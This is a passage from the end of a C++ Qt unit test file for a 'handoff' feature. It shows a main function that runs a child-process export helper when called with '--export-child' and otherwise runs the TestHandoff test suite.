  if (argc == 4 && qstrcmp(argv[1], "--export-child") == 0) return exportChild(QString::fromLocal8Bit(argv[2]), QString::fromLocal8Bit(argv[3]));
  TestHandoff test;
  QTEST_SET_MAIN_SOURCE_PATH
  return QTest::qExec(&test, argc, argv);
}
#include "test_handoff.moc"
